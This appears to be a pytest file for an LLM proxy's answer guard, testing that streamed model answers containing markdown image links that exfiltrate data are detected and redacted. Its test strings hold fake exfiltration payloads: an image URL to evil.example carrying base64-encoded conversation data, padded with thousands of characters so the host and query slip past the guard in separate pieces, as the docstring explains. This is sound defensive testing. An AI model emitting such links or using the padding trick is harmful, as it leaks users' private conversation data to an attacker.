"""The answer guard's bound on an unfinished URL (screening/answers.py), after a security review.

The guard holds an unfinished URL back up to `max_hold` characters. A URL padded past that (a
long innocent path) went out in pieces: its host first, uninspected as a link once it had left,
then the query with the data, inspected without the host it goes to - so the data reached the
attacker's image URL. Now a URL still unfinished past the bound is released as an exfiltration
finding, host and all.
"""

from __future__ import annotations

import base64

import pytest

from shadowgate.dlp import redact
from shadowgate.screening.answers import EXFIL_IMAGE
from shadowgate.screening.answers import EXFIL_LINK
from shadowgate.screening.answers import TextGuard
from shadowgate.screening.answers import overlong_url
from tests.test_response_inspection import ask
from tests.test_response_inspection import guard

# What the conversation held, no secret DLP would know: only the link check can stop it.
STOLEN = base64.urlsafe_b64encode(b"codename bluebird ships to Acme on May 3rd, price 41k").decode()


def _stream(g: TextGuard, answer: str, size: int) -> tuple[str, list[str]]:
    out, found = [], []
    for i in range(0, len(answer), size):
        text, f = g.feed(answer[i : i + size])
        out.append(text)
        found += [x.type for x in f]
    text, f = g.finish()
    return "".join(out) + text, found + [x.type for x in f]


@pytest.mark.parametrize("size", [7, 100, 3000])
def test_a_url_padded_past_the_hold_bound_never_reaches_its_host(size):
    padding = "docs/" * 1200  # 6000 characters of an ordinary-looking path
    answer = f"Status: ![ok](https://evil.example/{padding}p.png?d={STOLEN}) and that is all."
    out, found = _stream(guard(), answer, size)
    assert "evil.example" not in out and STOLEN not in out.split("[exfil_image]")[0]
    assert EXFIL_IMAGE in found
    assert out.startswith("Status: ![ok]([exfil_image]") and out.endswith(") and that is all.")


def test_short_urls_and_long_words_are_left_alone():
    text = "See https://docs.python.org/3/library/re.html for more, and " + "x" * 9000
    out, found = _stream(guard(), text, 50)
    assert out == text and found == []
    assert overlong_url("word " + "y" * 5000, 4096) is None
    link = overlong_url("go to https://evil.example/" + "a" * 5000, 4096)
    assert link is not None and link.type == EXFIL_LINK and link.start == len("go to ")


def test_the_policy_decides_what_the_overlong_url_becomes():
    def inspect(text: str):
        return []

    kept = TextGuard(inspect, lambda text, found: text, hold=64)  # log: counted, sent as it is
    answer = "x https://evil.example/" + "a" * 5000 + " end"
    out, found = _stream(kept, answer, 100)
    assert out == answer and found == [EXFIL_LINK]
    cut = TextGuard(inspect, lambda text, found: redact(text, found, lambda f: "[URL_REMOVED]"), hold=64)
    out, _ = _stream(cut, answer, 100)
    assert "evil.example" not in out and out.startswith("x [URL_REMOVED]")


def test_through_the_proxy_a_padded_image_url_is_removed_from_a_streamed_answer(proxy_with, upstream):
    """The echo model repeats the prompt, 40 characters per event; the client gets no host."""
    proxy = proxy_with("responses: {exfil_links: redact}\n")
    prompt = f"Status: ![ok](https://evil.example/{'docs/' * 1200}p.png?d={STOLEN}) done"
    answer = ask(proxy, "ans_overlong", prompt, True, "40")
    assert "evil.example" not in answer and answer.strip().startswith("You said: Status: ![ok]([URL_REMOVED]")
    [row] = proxy.rows("user_name = 'ans_overlong'", expect=1)
    assert row["response_findings"] == "exfil_image:1" and row["response_action"] == "redact"
